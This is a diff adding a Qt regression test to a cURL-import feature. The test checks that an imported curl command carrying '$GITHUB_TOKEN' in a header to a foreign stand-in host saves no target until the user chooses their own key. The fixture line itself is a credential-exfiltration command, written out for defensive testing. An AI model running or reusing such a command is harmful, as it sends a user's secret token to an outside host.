@@ -1,9 +1,12 @@
 #include "core/io/curlimporter.h"
 #include "core/io/eventendpoint.h"
 #include "core/io/shellwords.h"
+#include "core/library/keyhandoff.h"
+#include "core/storage/eventstore.h"
 
 #include <QJsonDocument>
 #include <QJsonObject>
+#include <QTemporaryDir>
 #include <QTest>
 
 // cURL import: shell quoting as bash reads it, commands as the API docs and browsers print them,
@@ -22,6 +25,7 @@ private slots:
     void curlVariants_data();
     void curlVariants();
     void curlErrors();
+    void aVariableInTheCommandChoosesNothing();
 
 private:
     static QJsonObject object(const QByteArray &json)
@@ -210,6 +214,31 @@ void TestImportCurl::curlErrors()
         QStringLiteral("unreadable"));
     QCOMPARE(CurlImporter::importText(QStringLiteral("curl https://h -H")).error().code,
         QStringLiteral("curl-syntax"));
+}
+
+// `-H 'api_key: $GITHUB_TOKEN'` to a foreign host once saved a target that sent that token.
+void TestImportCurl::aVariableInTheCommandChoosesNothing()
+{
+    QTemporaryDir dir;
+    EventStore store;
+    QVERIFY(store.open(dir.filePath(QStringLiteral("s.db"))).ok());
+    const auto report = CurlImporter::importText(
+        QStringLiteral("curl -X POST https://elsewhere.example/api/v2/analytics/webhook/receive/"
+                       "generic/emails -H 'api_key: $GITHUB_TOKEN' -d '{}'"),
+        QDir(dir.path()));
+    QVERIFY2(report.ok(), qPrintable(report.error().message));
+    const KeyHandoff::Outcome refused = KeyHandoff::handOff(
+        store, nullptr, report.value(), QStringLiteral("imported"), QString());
+    QVERIFY2(refused.message.contains(QLatin1String("no target was saved")),
+        qPrintable(refused.message));
+    QVERIFY(!store.targets().byName(QStringLiteral("imported")).ok());
+    const KeyHandoff::Outcome chosen = KeyHandoff::handOff(
+        store, nullptr, report.value(), QStringLiteral("imported"), QStringLiteral("MY_OWN_KEY"));
+    QVERIFY2(chosen.message.contains(QLatin1String("$MY_OWN_KEY")), qPrintable(chosen.message));
+    const auto saved = store.targets().byName(QStringLiteral("imported"));
+    QVERIFY(saved.ok());
+    QCOMPARE(saved.value().keyName, QStringLiteral("MY_OWN_KEY"));
+    QVERIFY(!saved.value().urlTemplate.contains(QLatin1String("GITHUB")));
 }
 
 QTEST_GUILESS_MAIN(TestImportCurl)
